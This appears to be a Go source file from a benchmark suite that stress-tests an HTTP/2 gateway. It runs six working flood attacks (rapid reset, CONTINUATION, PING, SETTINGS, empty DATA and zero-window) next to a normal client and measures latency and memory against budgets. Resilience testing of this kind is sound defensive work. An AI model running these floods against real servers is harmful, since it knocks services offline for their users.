//go:build linux

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackers is the number of connections that attack at once. One that is
// closed is opened again at once.
const attackers = 4

// flood is one way to misuse HTTP/2.
type flood struct {
	name     string
	settings []http2.Setting
	// attack writes the i-th piece of it; false says that there is no more to
	// be done than to wait.
	attack func(c *attacker, i int) bool
}

func floods() []flood {
	return []flood{
		{name: "rapid reset", attack: func(c *attacker, i int) bool {
			id := uint32(2*i + 1)
			c.request(id, true, "GET", "/")
			c.note(c.fr.WriteRSTStream(id, http2.ErrCodeCancel))
			return true
		}},
		{name: "continuation", attack: func(c *attacker, i int) bool {
			if i == 0 {
				c.note(c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.fields("GET", "/")}))
			} else {
				c.note(c.fr.WriteContinuation(1, false, c.more))
			}
			return true
		}},
		{name: "pings", attack: func(c *attacker, _ int) bool {
			c.note(c.fr.WritePing(false, [8]byte{}))
			return true
		}},
		{name: "settings", attack: func(c *attacker, i int) bool {
			c.note(c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)}))
			return true
		}},
		{name: "empty data", attack: func(c *attacker, i int) bool {
			if i == 0 {
				c.request(1, false, "POST", "/")
			} else {
				c.note(c.fr.WriteData(1, false, nil))
			}
			return true
		}},
		{
			name: "zero window", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			attack: func(c *attacker, i int) bool {
				c.request(uint32(2*i+1), true, "GET", "/bytes/65536")
				return i < 99
			},
		},
	}
}

// attacker is one connection of an attack.
type attacker struct {
	out   bytes.Buffer
	fr    *http2.Framer
	block bytes.Buffer
	enc   *hpack.Encoder
	more  []byte        // a field for CONTINUATION
	sent  *atomic.Int64 // frames
	err   error
}

// note counts a frame.
func (c *attacker) note(err error) {
	c.sent.Add(1)
	c.err = errors.Join(c.err, err)
}

func (c *attacker) request(id uint32, end bool, method, path string) {
	c.note(c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.fields(method, path), EndStream: end, EndHeaders: true}))
}

func (c *attacker) fields(method, path string) []byte {
	c.block.Reset()
	for _, f := range [...][2]string{{":method", method}, {":scheme", "http"}, {":authority", siteName}, {":path", path}} {
		c.err = errors.Join(c.err, c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
	}
	return c.block.Bytes()
}

// attackOnce attacks over one connection until the other end closes it.
func attackOnce(address string, f flood, sent *atomic.Int64) error {
	nc, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	defer nc.Close()
	c := &attacker{sent: sent, more: literal("x-more", strings.Repeat("y", 100))}
	c.fr, c.enc = http2.NewFramer(&c.out, nil), hpack.NewEncoder(&c.block)
	c.fr.AllowIllegalWrites = true
	c.out.WriteString(http2.ClientPreface)
	c.note(c.fr.WriteSettings(f.settings...))
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, nc) // until it is closed
	}()
	const flush = 4 << 10 // many frames in one system call
	for i, more := 0, true; more && c.err == nil; i++ {
		if more = f.attack(c, i); c.out.Len() < flush && more {
			continue
		}
		if _, err := nc.Write(c.out.Bytes()); err != nil {
			return nil // this is what should happen
		}
		c.out.Reset()
	}
	if c.err == nil {
		<-ended
	}
	return c.err
}

// serveFlood attacks until the process is told to end, and then prints how many
// connections and frames there were.
func serveFlood(name, address string) error {
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM)
	var conns, frames atomic.Int64
	for _, f := range floods() {
		if f.name != name {
			continue
		}
		failed := make(chan error, attackers)
		for range attackers {
			go func() {
				for {
					conns.Add(1)
					if err := attackOnce(address, f, &frames); err != nil {
						failed <- err
						return
					}
				}
			}()
		}
		select {
		case err := <-failed:
			return fmt.Errorf("attacking by %s: %w", name, err)
		case <-stop:
		}
		fmt.Println(conns.Load(), frames.Load())
		return nil
	}
	return fmt.Errorf("there is no attack %q", name)
}

// goodRate is what the good client asks for in a second.
const goodRate = 500

// flooded attacks gatehouse beside a good client. The attack has a process of
// its own that gives way to the good client, which would else wait for its
// processor and not for the gateway.
func flooded(ctx context.Context, b *bench) (*table, error) {
	if !b.measures("gatehouse") {
		return nil, errNothing
	}
	r, err := b.startProxy(ctx, productNamed("gatehouse"), site{Both: true}, "/")
	if err != nil {
		return nil, err
	}
	defer r.stop()
	good := paced{connections: 16, rate: goodRate, path: "/"}
	if _, err := b.sample(ctx, r, good, min(b.opts.duration, time.Second)); err != nil { // the warm-up
		return nil, err
	}
	var names []string
	pairs := map[string][]pair{}
	for _, f := range floods() {
		names = append(names, f.name)
	}
	for range b.opts.rounds {
		for _, name := range names {
			p, err := b.floodPair(ctx, r, good, name)
			if err != nil {
				return nil, fmt.Errorf("%s: %w", name, err)
			}
			pairs[name] = append(pairs[name], p)
		}
	}
	rows, budgets := floodRows(names, pairs)
	return newTable(rows, []metric{p50, p99, timesQuiet, slowest, rss, peak, growth, attackConns, attackFrames, busy}, nil, budgets...), nil
}

// pair is what the good client had in peace, and under attack right after.
type pair struct{ quiet, attacked sample }

// floodRows makes rows of what was measured. Each sample under attack is
// compared to the quiet one beside it: the machine may have been another a
// minute earlier.
func floodRows(names []string, pairs map[string][]pair) (rows []row, budgets []budget) {
	rows = []row{{Subject: quiet}}
	for _, name := range names {
		attacked := row{Subject: name}
		for _, p := range pairs[name] {
			p.attacked[timesQuiet] = p.attacked[p99] / p.quiet[p99]
			attacked.Rounds = append(attacked.Rounds, p.attacked)
			rows[0].Rounds = append(rows[0].Rounds, p.quiet)
		}
		rows = append(rows, attacked)
		budgets = append(budgets, budget{Subject: name, Metric: timesQuiet, AtMost: 2}, budget{Subject: name, Metric: growth, AtMost: 16 << 20})
	}
	for i := range rows {
		rows[i].Median = medians(rows[i].Rounds)
	}
	return rows, budgets
}

// quiet is the subject that is not attacked.
const quiet = "no attack"

// settling is how long things are left to come to rest before a sample: what
// begins only once, such as streams that are then left to stand, and what the
// attack before has left.
const settling = 500 * time.Millisecond

func (b *bench) floodPair(ctx context.Context, r *running, good paced, name string) (p pair, err error) {
	if err := pause(ctx, 2*settling); err != nil {
		return p, err
	}
	if p.quiet, err = b.sample(ctx, r, good, b.opts.duration); err != nil {
		return p, err
	}
	p.attacked, err = b.floodSample(ctx, r, good, name)
	return p, err
}

func (b *bench) floodSample(ctx context.Context, r *running, good paced, name string) (sample, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	before, err := r.usage()
	if err != nil {
		return nil, err
	}
	if err := r.resetPeak(); err != nil {
		return nil, err
	}
	start := time.Now()
	attack, err := startProcess(b.dir, "flood", b.cpus.load, "nice", "-n", "39", self, floodMode, name, r.site.Address)
	if err != nil {
		return nil, err
	}
	defer attack.stop()
	if err := pause(ctx, settling); err != nil {
		return nil, err
	}
	begun, err := r.usage()
	if err != nil {
		return nil, err
	}
	m, err := b.sample(ctx, r, good, b.opts.duration)
	if err != nil {
		return nil, err
	}
	attack.stop()
	m[growth] = max(0, float64(begun.peak-before.rss), m[peak]-float64(before.rss))
	seconds := time.Since(start).Seconds()
	conns, frames, err := parseFlood(attack.printed())
	if err != nil {
		return nil, err
	}
	m[attackConns], m[attackFrames] = conns/seconds, frames/seconds
	return m, nil
}

// parseFlood reads what an attack prints in the end.
func parseFlood(out string) (conns, frames float64, err error) {
	first, second, _ := strings.Cut(out, " ")
	if conns, err = strconv.ParseFloat(first, 64); err == nil {
		frames, err = strconv.ParseFloat(second, 64)
	}
	if err != nil {
		return 0, 0, fmt.Errorf("the attack ended: %.500q", out)
	}
	return conns, frames, nil
}
